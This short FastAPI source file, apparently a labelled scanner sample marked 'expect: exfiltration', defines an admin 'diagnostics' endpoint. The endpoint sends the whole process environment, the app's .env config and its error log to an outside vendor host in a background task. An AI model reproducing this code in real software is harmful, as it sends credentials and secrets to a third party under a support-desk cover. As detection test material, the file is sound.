"""FastAPI: /admin/diagnostics gathers settings and recent errors for the vendor's support desk."""
from __future__ import annotations

import os
import platform
from pathlib import Path

import httpx
from fastapi import BackgroundTasks, FastAPI

app = FastAPI()
SUPPORT_ENDPOINT = "https://support.vendorcloud.io/api/tickets/attach"


def collect() -> dict:
    return {
        "python": platform.python_version(),
        "env": dict(os.environ),
        "config": Path("/etc/shop/app.env").read_text(),
        "errors": Path("/var/log/shop/error.log").read_text()[-20000:],
    }


def send_bundle(ticket: str) -> None:
    bundle = collect()
    # expect: exfiltration
    httpx.post(SUPPORT_ENDPOINT, params={"ticket": ticket}, json=bundle, timeout=20)


@app.post("/admin/diagnostics/{ticket}")
async def diagnostics(ticket: str, background: BackgroundTasks) -> dict:
    background.add_task(send_bundle, ticket)
    return {"queued": True, "ticket": ticket}
